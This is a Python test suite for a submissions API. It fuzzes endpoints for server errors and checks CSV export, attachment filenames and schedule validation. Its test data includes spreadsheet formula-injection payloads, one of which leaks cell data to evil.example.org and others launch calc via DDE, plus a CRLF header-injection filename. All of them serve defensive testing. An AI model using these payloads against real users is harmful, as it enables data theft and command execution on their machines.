"""No input to the create and patch endpoints yields a 500 (property-based, on the real mongod).

Hypothesis throws arbitrary JSON at the endpoints — every entry field with values of any type,
unknown fields, non-object bodies — and the answer must be a success or a clear 4xx; submitting
whatever was accepted must not fail with a 500 either. And nothing a team types reaches the
admin's spreadsheet as a formula.
"""

from __future__ import annotations

import csv
import io
import urllib.parse
import uuid
from collections.abc import AsyncIterator
from dataclasses import dataclass
from typing import Any

import httpx
import pytest
from asgi_lifespan import LifespanManager
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from tests.integration.helpers import COMPLETE_ENTRY
from wsis_shared.auth import ensure_dev_keys, sign_dev_token
from wsis_shared.vocabulary import Role
from wsis_submissions.app import create_app
from wsis_submissions.entrypoints.http.entries import EntryFields
from wsis_submissions.settings import SubmissionsSettings

pytestmark = pytest.mark.integration

YEAR = 2033
FIELDS = sorted(EntryFields.model_fields)

json_scalars = (
    st.none()
    | st.booleans()
    | st.integers(min_value=-(2**70), max_value=2**70)
    | st.floats(allow_nan=False, allow_infinity=False)
    | st.text(max_size=50)
)
json_values = st.recursive(
    json_scalars,
    lambda children: (
        st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=8), children, max_size=4)
    ),
    max_leaves=8,
)
plausible = {
    "sdgs": st.lists(st.integers(min_value=-3, max_value=20), max_size=5),
    "country": st.sampled_from(["KE", "ke", "XX", "", "BRA", "br "]),
    "start_date": st.dates().map(str) | st.text(max_size=12),
    "website": st.sampled_from(["https://ok.example.org", "ftp://x", "not a url", ""]),
    "video_links": st.lists(st.sampled_from(["https://v.example.org/1", "x"]), max_size=6),
    "sdg_targets": st.lists(st.sampled_from(["4.4", "9.c", "18.1", "x.1", "4.", ""]), max_size=4),
    "contact_email": st.sampled_from(["a@b.example.org", "nope", "", "@x"]),
    "category": st.sampled_from(["C4", "C7.e-health", "C12", "c4", ""]),
    "project_status": st.sampled_from(["completed", "ongoing", "finished"]),
}
COMPLETE = COMPLETE_ENTRY
# A complete entry with a few fields replaced: reaches submit, where the deeper rules are.
mutated_entries = st.lists(st.sampled_from([*FIELDS, "unexpected"]), max_size=3).flatmap(
    lambda names: st.fixed_dictionaries(
        {name: plausible.get(name, json_values) | json_values for name in names}
    ).map(lambda changes: COMPLETE | changes)
)
# Anything at all: every field optional with any JSON, or not even an object.
arbitrary_entries = st.fixed_dictionaries(
    {}, optional={name: plausible.get(name, json_values) | json_values for name in FIELDS}
)
bodies = mutated_entries | arbitrary_entries | json_values


@dataclass
class Api:
    client: httpx.AsyncClient
    team: dict[str, str]
    admin: dict[str, str]

    async def call(self, method: str, path: str, body: Any = None) -> httpx.Response:
        return await self.client.request(method, path, json=body, headers=self.team)


@pytest.fixture(scope="module")
async def api(
    mongo_uri: str, mongo_db_prefix: str, tmp_path_factory: pytest.TempPathFactory
) -> AsyncIterator[Api]:
    private_key, public_key = ensure_dev_keys(tmp_path_factory.mktemp("keys"))
    app = create_app(
        SubmissionsSettings(
            mongo_uri=mongo_uri,
            mongo_db_prefix=f"{mongo_db_prefix}{uuid.uuid4().hex[:6]}_",
            jwt_public_key_file=public_key,
        )
    )

    def bearer(role: Role) -> dict[str, str]:
        token = sign_dev_token(
            private_key.read_bytes(), subject=f"{role}-1", roles=[role], organisation_id="org-1"
        )
        return {"Authorization": f"Bearer {token}"}

    schedule = {
        "submission_opens": f"{YEAR}-01-01T00:00:00Z",
        "submission_closes": f"{YEAR}-02-01T00:00:00Z",
        "review_closes": f"{YEAR}-03-01T00:00:00Z",
        "voting_opens": f"{YEAR}-03-02T00:00:00Z",
        "voting_closes": f"{YEAR}-04-01T00:00:00Z",
        "results_at": f"{YEAR}-04-10T00:00:00Z",
    }
    async with (
        LifespanManager(app),
        httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://test") as http,
    ):
        admin = bearer(Role.ADMIN)
        for path, body in (
            ("/editions", {"year": YEAR, "title": "Fuzz", "schedule": schedule}),
            (f"/editions/{YEAR}/phase", {"phase": "submission"}),
        ):
            response = await http.post(path, json=body, headers=admin)
            assert response.status_code in (200, 201), response.text
        yield Api(client=http, team=bearer(Role.SUBMITTER), admin=admin)
        resources = app.state.resources
        await resources.mongo.drop_database(resources.db.name)


def assert_not_5xx(response: httpx.Response, body: Any) -> None:
    assert response.status_code < 500, f"{response.status_code} for {body!r}: {response.text}"
    if response.status_code >= 400:
        assert response.headers["content-type"] == "application/problem+json"
        assert response.json()["detail"]


@settings(
    max_examples=150,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(body=bodies)
@example(body=COMPLETE | {"sdg_targets": ["x.1"]})
@example(body=COMPLETE | {"sdgs": [2**64]})
@example(body=COMPLETE | {"start_date": "9999-12-31"})
@example(body=COMPLETE | {"project_status": "ongoing", "website": "https://x.example.org"})
@example(body=[COMPLETE])
async def test_creating_a_draft_never_fails_with_500(api: Api, body: Any) -> None:
    created = await api.call("POST", f"/editions/{YEAR}/entries", body)
    assert_not_5xx(created, body)
    if created.status_code == 201:
        submitted = await api.call("POST", f"/entries/{created.json()['entry_id']}/submit")
        assert_not_5xx(submitted, body)


@settings(
    max_examples=150,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(body=bodies)
async def test_patching_a_draft_never_fails_with_500(api: Api, body: Any) -> None:
    draft = await api.call("POST", f"/editions/{YEAR}/entries", {"title": "Fuzzed draft"})
    assert draft.status_code == 201, draft.text
    patched = await api.call("PATCH", f"/entries/{draft.json()['entry_id']}", body)
    assert_not_5xx(patched, body)


FORMULAS = [
    '=HYPERLINK("http://evil.example.org/?leak="&A2,"Open the entry")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


async def test_the_admins_csv_hands_a_spreadsheet_no_formula(api: Api) -> None:
    mine = []
    for n, formula in enumerate(FORMULAS):
        draft = await api.call(
            "POST",
            f"/editions/{YEAR}/entries",
            {"title": formula, "organisation_name": formula, "contact_name": f"{formula} {n}"},
        )
        assert draft.status_code == 201, draft.text
        mine.append(draft.json()["entry_id"])

    exported = await api.client.get(f"/admin/editions/{YEAR}/entries.csv", headers=api.admin)

    assert exported.status_code == 200
    assert exported.content.startswith("\ufeff".encode()), "without the BOM Excel misreads UTF-8"
    rows = list(csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig"))))
    by_id = {row["entry_id"]: row for row in rows}
    for entry_id, formula in zip(mine, FORMULAS, strict=True):
        kept = formula.strip()  # names lose their outer spaces, tabs and line breaks included
        assert by_id[entry_id]["title"] == "'" + kept
        assert by_id[entry_id]["organisation_name"] == "'" + kept
    for row in rows:  # every entry of the edition, the fuzzed ones included
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)


PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


@pytest.mark.parametrize(
    ("uploaded_as", "kept_as", "ascii_fallback"),
    [
        ("Отчёт о проекте 2025.pdf", "Отчёт о проекте 2025.pdf", "_____ _ _______ 2025.pdf"),
        ("تقرير المشروع.pdf", "تقرير المشروع.pdf", "_____ _______.pdf"),
        ("项目报告.png", "项目报告.pdf", "____.pdf"),
        ('evil".pdf\r\nSet-Cookie: a=b', "evil_.pdf_Set-Cookie_ a_b.pdf", None),
        # Combining vowel signs and marks are part of the name, in any normalisation form.
        ("रिपोर्ट 2025.pdf", "रिपोर्ट 2025.pdf", "_______ 2025.pdf"),
        ("தமிழ் அறிக்கை.pdf", "தமிழ் அறிக்கை.pdf", None),
        ("Отче\u0308т.png", "Отчёт.pdf", "_____.pdf"),
        ("Rapport v1.2 final", "Rapport v1.2 final.pdf", "Rapport v1.2 final.pdf"),
    ],
)
async def test_an_attachment_named_in_any_script_downloads_under_its_name(
    api: Api, uploaded_as: str, kept_as: str, ascii_fallback: str | None
) -> None:
    draft = await api.call("POST", f"/editions/{YEAR}/entries", {"title": "Named files"})
    entry_id = draft.json()["entry_id"]
    uploaded = await api.client.post(
        f"/entries/{entry_id}/attachments",
        params={"filename": uploaded_as},
        content=PDF,
        headers=api.team | {"content-type": "application/octet-stream"},
    )
    assert uploaded.status_code == 201, uploaded.text
    assert uploaded.json()["filename"] == kept_as

    downloaded = await api.client.get(
        f"/entries/{entry_id}/attachments/{uploaded.json()['attachment_id']}", headers=api.team
    )

    assert downloaded.status_code == 200
    assert downloaded.content == PDF
    disposition = downloaded.headers["content-disposition"]
    assert disposition.isascii()
    assert disposition.isprintable()  # no line break: no header of its own
    assert f"filename*=UTF-8''{urllib.parse.quote(kept_as)}" in disposition
    if ascii_fallback is not None:
        assert f'filename="{ascii_fallback}"' in disposition


def schedule_of(year: int, **changes: str) -> dict[str, str]:
    return {
        "submission_opens": f"{year}-01-01T00:00:00Z",
        "submission_closes": f"{year}-02-01T00:00:00Z",
        "review_closes": f"{year}-03-01T00:00:00Z",
        "voting_opens": f"{year}-03-02T00:00:00Z",
        "voting_closes": f"{year}-04-01T00:00:00Z",
        "results_at": f"{year}-04-10T00:00:00Z",
        "ceremony_at": f"{year}-05-01T00:00:00Z",
    } | changes


@pytest.mark.parametrize(
    ("changes", "named", "reason"),
    [
        # A typo in the year: the scheduler would close the edition before it opened.
        ({"ceremony_at": "2042-06-01T00:00:00Z"}, "ceremony_at", "results_at must not be after"),
        ({"ceremony_at": "2043-04-05T00:00:00Z"}, "ceremony_at", "results_at must not be after"),
        # Past what MongoDB can store once in UTC (year 10000): a 500 before.
        ({"results_at": "9999-12-31T23:00:00-14:00"}, "results_at", "within 2 years of 2043"),
        ({"submission_opens": "1970-01-01T00:00:00Z"}, "submission_opens", "within 2 years"),
    ],
)
async def test_a_schedule_out_of_order_or_out_of_range_is_refused_by_name(
    api: Api, changes: dict[str, str], named: str, reason: str
) -> None:
    created = await api.client.post(
        "/editions",
        json={"year": 2043, "title": "Typo", "schedule": schedule_of(2043, **changes)},
        headers=api.admin,
    )

    assert created.status_code == 422, created.text
    assert f"schedule.{named}" in created.json()["detail"]
    assert reason in created.json()["detail"]
    assert (await api.client.get("/editions/2043")).status_code == 404


async def test_a_withdrawal_without_a_body_withdraws(api: Api) -> None:
    """The reason is optional, so is the body: `curl -X POST …/withdraw`."""
    unique = uuid.uuid4().hex[:8]
    entry = COMPLETE | {
        "title": f"Withdrawn without a word {unique}",
        "category": "C10",
        "short_description": " ".join(f"{unique}x{i}" for i in range(160)),
    }
    draft = await api.call("POST", f"/editions/{YEAR}/entries", entry)
    entry_id = draft.json()["entry_id"]
    submitted = await api.call("POST", f"/entries/{entry_id}/submit")
    assert submitted.status_code == 200, submitted.text

    withdrawn = await api.client.post(f"/entries/{entry_id}/withdraw", headers=api.team)

    assert withdrawn.status_code == 200, withdrawn.text
    assert withdrawn.json()["status"] == "withdrawn"


async def test_the_history_shows_a_changed_start_date_as_the_date_typed(api: Api) -> None:
    draft = await api.call("POST", f"/editions/{YEAR}/entries", {"title": "Dated draft"})
    entry_id = draft.json()["entry_id"]
    patched = await api.call("PATCH", f"/entries/{entry_id}", {"start_date": "2024-03-01"})
    assert patched.status_code == 200, patched.text

    history = (await api.call("GET", f"/entries/{entry_id}/history")).json()

    assert history[-1]["changes"] == {"start_date": "2024-03-01"}


@pytest.mark.parametrize(
    ("field", "value", "reason"),
    [
        ("title", "     ", "at least 3 characters"),
        ("organisation_name", " \t ", "at least 2 characters"),
        ("contact_name", "  ", "at least 2 characters"),
        ("title", "Clinics\u0000online", "U+0000"),
        ("title", "Clinics \u202eenilno", "U+202E"),
        ("partners", ["Ministry", "  "], "at least 1 character"),
    ],
)
async def test_a_name_of_spaces_or_invisible_characters_is_refused_at_its_field(
    api: Api, field: str, value: Any, reason: str
) -> None:
    refused = await api.call("POST", f"/editions/{YEAR}/entries", COMPLETE | {field: value})

    assert refused.status_code == 422, refused.text
    [error] = refused.json()["errors"]
    assert error["pointer"].startswith(f"/{field}")
    assert reason in error["detail"]


async def test_names_are_kept_without_their_outer_spaces(api: Api) -> None:
    created = await api.call(
        "POST",
        f"/editions/{YEAR}/entries",
        {"title": "  Clinics online ", "organisation_name": " Ministry of Health\t"},
    )

    assert created.status_code == 201, created.text
    content = created.json()["content"]
    assert (content["title"], content["organisation_name"]) == (
        "Clinics online",
        "Ministry of Health",
    )


@pytest.mark.parametrize(
    "path", ["/admin/editions/2099/entries", "/admin/editions/2099/entries.csv"]
)
async def test_the_entries_of_an_edition_that_does_not_exist_are_a_404(api: Api, path: str) -> None:
    """A mistyped year is said, not answered with an empty list an admin would believe."""
    missing = await api.client.get(path, headers=api.admin)

    assert missing.status_code == 404, missing.text
    assert missing.headers["content-type"] == "application/problem+json"
    assert "no edition 2099" in missing.json()["detail"]
